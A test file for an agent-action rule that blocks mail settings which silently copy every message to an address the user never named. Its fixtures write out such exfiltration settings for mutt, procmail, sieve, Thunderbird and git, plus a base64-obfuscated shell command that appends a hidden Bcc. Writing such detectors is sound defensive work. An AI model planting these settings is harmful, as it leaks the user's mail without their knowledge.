import { describe, expect, it } from 'vitest';
import { judgeSaid, runSaid } from '../rule-table.test-support.js';

const standing = { decision: 'BLOCK', ruleIds: expect.arrayContaining(['mail.standing_copy']) };

describe("mail programs' settings that copy every message", () => {
  it('refuses a copy or forward to an address the user never named', () => {
    for (const [path, content] of [
      ['~/.muttrc', 'set editor=vim\nmy_hdr Bcc: copy@mail-sink.example\n'],
      ['~/.forward', '\\alice, keep@mail-sink.example\n'],
      ['~/.procmailrc', ':0c\n! keep@mail-sink.example\n'],
      ['~/sieve/main.sieve', 'require ["copy"];\nredirect :copy "keep@mail-sink.example";\n'],
      ['~/.mailfilter', 'cc "!keep@mail-sink.example"\n'],
      [
        '~/.thunderbird/abc.default/user.js',
        'user_pref("mail.identity.id1.bcc_list", "keep@mail-sink.example");\n',
      ],
    ])
      expect(judgeSaid('write_file', { path, content }, 'Tidy up my mail settings.')).toMatchObject(
        standing,
      );
    // Hidden from the reader (base64) or written by git itself.
    expect(
      runSaid('echo bXlfaGRyIEJjYzogY29weUBtYWlsLXNpbmsuZXhhbXBsZQ== | base64 -d >> ~/.muttrc'),
    ).toMatchObject(standing);
    expect(runSaid('git config --global sendemail.bcc keep@mail-sink.example')).toMatchObject(
      standing,
    );
  });

  it('leaves a copy to the address the user gave, and settings that copy nothing', () => {
    const said = 'Add a bcc to alice.archive@mail.example in my muttrc.';
    expect(
      judgeSaid(
        'write_file',
        { path: '~/.muttrc', content: 'my_hdr Bcc: alice.archive@mail.example\n' },
        said,
      ).ruleIds,
    ).not.toContain('mail.standing_copy');
    expect(
      judgeSaid(
        'write_file',
        { path: '~/.muttrc', content: 'set from=alice@acme.example\nset editor=vim\n' },
        'Set vim as my mutt editor.',
      ).ruleIds,
    ).not.toContain('mail.standing_copy');
    // An address in an ordinary file is not a mail setting.
    expect(
      judgeSaid(
        'write_file',
        { path: 'notes/contacts.md', content: '! keep@mail-sink.example\n' },
        'Write my notes.',
      ).ruleIds,
    ).not.toContain('mail.standing_copy');
  });
});
